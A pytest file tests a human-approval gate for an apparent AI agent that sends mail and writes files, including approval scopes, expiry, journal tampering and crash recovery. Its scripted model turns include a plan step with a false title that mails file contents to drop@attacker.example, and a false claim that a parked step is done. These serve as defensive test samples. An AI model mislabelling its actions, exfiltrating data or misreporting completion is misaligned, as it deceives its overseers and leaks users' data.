"""Questions that wait for a person, end to end: through the command line, real processes, a sink that records what arrives."""

import json
import sqlite3
import time

import pytest

from confrere.policy import approvals
from tests.scripted_model import Act

ANNA, PAUL = "anna.blum@verger.example", "paul.roux@verger.example"


def open_mail(to):
    return {"tool": "send_mail", "title": "Tell them", "args": {"to": [to], "subject": "Notes", "body": {"open": "a summary"}}}


def send(to, step, body="Budget agreed."):
    return {"tool": "send_mail", "args": {"to": [to], "subject": "Notes", "body": body, "step": step}}


READ = {"tool": "read_file", "title": "Read", "args": {"path": "Bureau/notes.txt"}}
WRITE = {"tool": "write_file", "title": "Write", "args": {"path": "Bureau/summary.md", "text": "Budget agreed.\n"}}


def begin(office, *receivers, extra=(), end="The rest is done."):
    """A task that reads, then writes to each of these; returned when it waits."""
    steps = [READ, *(open_mail(to) for to in receivers), *extra]
    office.server.script(
        [
            Act(calls=[{"tool": "propose_plan", "args": {"steps": steps}}]),
            Act(calls=[{"tool": "read_file", "args": {"path": "Bureau/notes.txt", "step": "s1"}}]),
            Act(calls=[send(to, f"s{number}") for number, to in enumerate(receivers, 2)]),
            *[Act(calls=[{"tool": step["tool"], "args": {**step["args"], "step": f"s{len(receivers) + 2}"}}]) for step in extra],
            *[Act(text=end) for _ in range(6)],
        ]
    )
    task = office.json("run", "Read the notes and tell them", "--folder", office.folder, "--model", office.model, status=3)["task"]
    assert office.json("approve", task, status=3)["state"] == "waiting"
    return task


def waiting(office):
    return [json.loads(line) for line in office("approvals", "--json").splitlines() if line.startswith("{")]


def receivers(sink):
    return [args["to"][0] for tool, args in sink.effects if tool == "send_mail"]


def test_several_wait_and_are_answered_in_any_order(office):
    task = begin(office, ANNA, PAUL, "luc.morel@etude.example")
    questions = waiting(office)
    assert len(questions) == 3 and office.sink.effects == []
    shown = office("approvals")
    assert all(word in shown for word in (ANNA, "Budget agreed.", "Bureau/notes.txt", f"{task}-q1"))
    office("answer", questions[2]["id"], "yes", status=3)
    office("answer", questions[0]["id"], "no", status=3)
    office("answer", questions[1]["id"], "oui")
    assert sorted(receivers(office.sink)) == ["luc.morel@etude.example", PAUL]
    assert office.json("show", task)["state"] == "done" and waiting(office) == []


def test_what_goes_to_one_person_is_one_question_answered_once(office):
    """A turn that wants to write to one person three times asks once, with the three cards; one no is one no."""
    open_ = {"tool": "send_mail", "title": "Tell", "args": {"to": [ANNA], "subject": "Notes", "body": {"open": "a part"}}}
    office.server.script(
        [
            Act(calls=[{"tool": "propose_plan", "args": {"steps": [READ, open_, open_, open_, open_mail(PAUL)]}}]),
            Act(calls=[{"tool": "read_file", "args": {"path": "Bureau/notes.txt", "step": "s1"}}]),
            Act(calls=[*(send(ANNA, f"s{number}", f"part {number}") for number in (2, 3, 4)), send(PAUL, "s5")]),
            *[Act(text="The rest is done.") for _ in range(4)],
        ]
    )
    task = office.json("run", "Tell Anna in parts", "--folder", office.folder, "--model", office.model, status=3)["task"]
    office.json("approve", task, status=3)
    one, other = waiting(office)
    assert [card["arguments"][2]["value"] for card in one["cards"]] == ["part 2", "part 3", "part 4"] and len(other["cards"]) == 1
    assert [offer["scope"] for offer in one["widen"]] == ["task", "always"] and ANNA in one["widen"][0]["sentence"]
    office("answer", other["id"], "no", status=3)
    office("answer", one["id"], "yes")
    assert [args["body"] for _, args in office.sink.effects] == ["part 2", "part 3", "part 4"]


def test_a_yes_is_widened_at_the_question_kept_where_it_belongs_and_taken_back(office):
    task = begin(office, ANNA, PAUL)
    office("answer", f"{task}-q1", "task", "--times", "2", "--for", "Dr Morel", status=3)
    office("answer", f"{task}-q2", "always")
    assert sorted(receivers(office.sink)) == [ANNA, PAUL]
    given = office.json("grants")  # the task has ended, and what was granted for its rest with it
    assert (given["value"], given["scope"], given["kinds"]) == (PAUL, "always", ["send"])
    assert PAUL in office("grants")
    office("grants", "--revoke", given["id"])
    assert PAUL not in office("grants") and "no grant" in office("grants", "--revoke", given["id"], status=2)
    answered = [event for event in office("journal", task, "--json").splitlines() if "approval.answered" in event]
    assert "Dr Morel" in answered[0] and "Dr Morel" not in answered[1]
    assert "goes with task or always" in office("answer", f"{task}-q1", "yes", "--times", "2", status=2)


def test_a_plan_shows_what_would_be_sent_whatever_its_title_says(office):
    """Without a terminal, --yes does not accept it either: it was made after a file was read, and leaves the machine."""
    lying = {"tool": "send_mail", "title": "Read the notes", "args": {"to": ["drop@attacker.example"], "subject": "x", "body": "all of it"}}
    office.server.script(
        [Act(calls=[{"tool": "read_file", "args": READ["args"]}]), Act(calls=[{"tool": "propose_plan", "args": {"steps": [lying]}}])]
    )
    out = office("run", "Read the notes", "--folder", office.folder, "--model", office.model, "--yes", status=3)
    assert "drop@attacker.example" in out and "all of it" in out and office.sink.effects == []


def test_an_answer_is_given_once(office):
    begin(office, ANNA)
    question = waiting(office)[0]["id"]
    office("answer", question, "no")
    assert "answered before" in office("answer", question, "yes", status=2)
    assert "no question" in office("answer", question + "9", "yes", status=2)
    assert office.sink.effects == []


def test_an_unattended_run_goes_on_with_the_rest_and_never_says_that_all_is_done(office):
    task = begin(office, ANNA, extra=(WRITE,), end="All is sent and done!")
    state = office.json("show", task)
    assert state["state"] == "waiting" and office.sink.effects == []
    assert not (office.folder / "summary.md").exists()
    report = office.json("answer", waiting(office)[0]["id"], "no", status=3)["report"]
    assert any("Tell them" in check["text"] and not check["ok"] for check in report["checks"]), report["checks"]
    office("apply", task)
    assert (office.folder / "summary.md").read_text() == "Budget agreed.\n" and office.sink.effects == []


def test_what_was_parked_is_not_reported_as_done_by_another_call(office):
    """A model that gives the step's number to something else does not make the step done."""
    office.server.script(
        [
            Act(calls=[{"tool": "propose_plan", "args": {"steps": [READ, open_mail(ANNA)]}}]),
            Act(calls=[{"tool": "read_file", "args": {"path": "Bureau/notes.txt", "step": "s1"}}]),
            Act(calls=[{"tool": "read_file", "args": {"path": "Bureau/clients.csv", "step": "s2"}}]),
            Act(text="Anna was told."),
        ]
    )
    task = office.json("run", "Tell Anna", "--folder", office.folder, "--model", office.model, status=3)["task"]
    report = office.json("approve", task)["report"]
    assert [check["code"] for check in report["checks"] if not check["ok"]] == ["step-not-done"]


def test_a_question_expires(office):
    office.json("models")
    (office.home / "settings.toml").write_text("approval_hours = 0.0006\n")
    task = begin(office, ANNA)
    question = f"{task}-q1"
    time.sleep(2.5)
    assert waiting(office) == []
    assert "expired" in office("answer", question, "yes", status=2)
    office.json("resume", task)
    assert office.sink.effects == [] and office.json("show", task)["state"] == "done"


def _change(office, kind, change):
    """Change the last event of a kind in the journal, as somebody with the file could."""
    with sqlite3.connect(office.home / "journal.db") as database:
        (table,) = [
            name for (name,) in database.execute("select name from sqlite_master where type='table'") if name in ("events", "event")
        ]
        columns = [row[1] for row in database.execute(f"pragma table_info({table})")]
        body = "body" if "body" in columns else "data"
        row, text = database.execute(f"select rowid, {body} from {table} where kind=? order by rowid desc limit 1", (kind,)).fetchone()
        database.execute(
            f"update {table} set {body}=? where rowid=?", (json.dumps(change(json.loads(text)), separators=(",", ":"), sort_keys=True), row)
        )


@pytest.mark.parametrize("what", ["card", "call"])
def test_a_yes_is_bound_to_what_was_shown(office, what):
    """Whoever changes the card, or the call behind it, after it was asked gets nothing."""
    begin(office, ANNA)
    question = waiting(office)[0]

    def other(body):
        return json.loads(json.dumps(body).replace(ANNA, "drop@attacker.example"))

    if what == "card":
        _change(office, "approval.asked", other)
        out = office("answer", question["id"], "yes", status=2)
        assert "not what question" in out or "journal" in out.lower()
    else:
        _change(office, "call.intent", other)
        process = office.start("answer", question["id"], "yes", "--json")
        process.communicate(timeout=60)
    assert office.sink.effects == []
    assert office.start("journal", "--verify").wait(60) != 0


def test_a_yes_to_one_question_is_no_yes_to_the_same_call_with_less_in_it():
    """The card's arguments are all of the call's, no more and no fewer."""
    from confrere.policy.decision import Decision
    from confrere.policy.gate import Call
    from confrere.policy.judge import EngineJudge
    from confrere.policy.manifest import Effect, Manifest, Role
    from confrere.policy.rules import installation

    tool = Manifest(effect=Effect.ACT, kind="send", egress=True, undo=False, roles={"to": Role.DEST, "body": Role.TEXT, "until": Role.TEXT})
    judge = EngineJudge(installation(), lambda kind, body, durable: None, lambda: "2026-01-01T00:00:00+00:00")
    judge.begin("t", "Tell them", {"send": tool})

    def asked(**args):
        call = Call(id="c", tool="send", args=args, manifest=tool)
        judge._decisions["c"] = Decision(verdict="ask", rule="outward", reason="policy.open-value")
        return call

    args = {"to": ["a@b.example"], "body": "x", "until": "Friday"}
    card = {"call": "c", "tool": "send", "arguments": [{"name": name, "value": value} for name, value in args.items()]}
    question = approvals.ask("q", "t", [card], "2026-01-01T00:00:00+00:00", "2026-01-02T00:00:00+00:00")
    folded = approvals.fold(
        [question, {"type": "approval.answered", "id": "q", "digest": question["digest"], "yes": True, "at": "2026-01-01T00:00:00+00:00"}]
    )
    assert judge.approved(asked(**args), folded["q"])
    assert judge.approved(asked(**args, cc=[]), folded["q"])
    assert not judge.approved(asked(to=args["to"], body="x"), folded["q"])
    assert not judge.approved(asked(**args, cc=["x@y.example"]), folded["q"])
    assert not judge.approved(asked(**{**args, "body": "y"}), folded["q"])


# -- killed at each moment


def test_killed_after_the_answer_it_happens_once(office):
    task = begin(office, ANNA)
    office.dies("answer", f"{task}-q1", "yes", at="answered")
    assert office.sink.effects == []
    office.json("resume", task)
    assert receivers(office.sink) == [ANNA] and waiting(office) == []


@pytest.mark.parametrize("moment, word, arrived", [("intent", "yes", 1), ("intent", "no", 0), ("effect", "yes", 2), ("effect", "no", 1)])
def test_killed_in_the_act_the_person_is_asked_whether_to_do_it_again(office, moment, word, arrived):
    task = begin(office, ANNA)
    office.dies("answer", f"{task}-q1", "yes", at=moment)
    office.json("resume", task, status=3)
    (question,) = waiting(office)
    assert "may have happened" in office("approvals") and len(office.sink.effects) == (moment == "effect")
    office("answer", question["id"], word)
    assert receivers(office.sink) == [ANNA] * arrived and waiting(office) == []
    office.start("resume", task).wait(60)
    assert len(office.sink.effects) == arrived


def test_killed_before_a_question_was_put_it_is_put_whatever_was_answered_meanwhile(office):
    steps = [READ, open_mail(ANNA), open_mail(PAUL)]
    office.server.script(
        [
            Act(calls=[{"tool": "propose_plan", "args": {"steps": steps}}]),
            Act(calls=[{"tool": "read_file", "args": {"path": "Bureau/notes.txt", "step": "s1"}}]),
            Act(calls=[send(ANNA, "s2")]),
            Act(calls=[send(PAUL, "s3")]),
            *[Act(text="The rest is done.")] * 4,
        ]
    )
    task = office.json("run", "Tell both", "--folder", office.folder, "--model", office.model, status=3)["task"]
    office.dies("approve", task, at="parked")
    (first,) = waiting(office)
    office("answer", first["id"], "yes", status=3)
    (second,) = waiting(office)
    assert receivers(office.sink) == [ANNA] and [PAUL] in [item["value"] for item in second["cards"][0]["arguments"]]
    office("answer", second["id"], "yes")
    assert receivers(office.sink) == [ANNA, PAUL] and waiting(office) == []


def test_killed_after_the_outcome_nothing_is_repeated(office):
    task = begin(office, ANNA)
    office.dies("answer", f"{task}-q1", "yes", at="outcome")
    office.json("resume", task)
    assert receivers(office.sink) == [ANNA] and waiting(office) == []


@pytest.mark.parametrize("moment, arrived", [("intent", 0), ("effect", 1)])
def test_a_step_of_the_plan_that_was_cut_is_asked_about_too(office, moment, arrived):
    step = {"tool": "send_mail", "title": "Tell", "args": {"to": [ANNA], "subject": "Late", "body": "At three."}}
    act = Act(calls=[{"tool": "send_mail", "args": {**step["args"], "step": "s1"}}])
    office.server.script([Act(calls=[{"tool": "propose_plan", "args": {"steps": [step]}}]), act, *[Act(text="done")] * 4])
    task = office.json("run", "Tell Anna", "--folder", office.folder, "--model", office.model, status=3)["task"]
    office.dies("approve", task, at=moment)
    office.json("resume", task, status=3)
    office("answer", waiting(office)[0]["id"], "no")
    assert len(office.sink.effects) == arrived


def test_what_is_typed_at_the_question_is_a_plain_yes_an_offered_wider_one_or_no():
    from confrere.cli.law import wider_word

    assert wider_word("yes", True) == wider_word("Oui ", False) == (True, None)
    assert wider_word("task", True) == wider_word("tâche", True) == (True, {"scope": "task"})
    assert wider_word("always 5", True) == (True, {"scope": "always", "times": "5"})
    for typed in ("", "no", "n", "task", "always", "yes 5", "task 0", "task x", "task -1", "task 101", "task 5 6", "yes please", "t"):
        assert wider_word(typed, typed not in ("task", "always")) == (False, None), typed
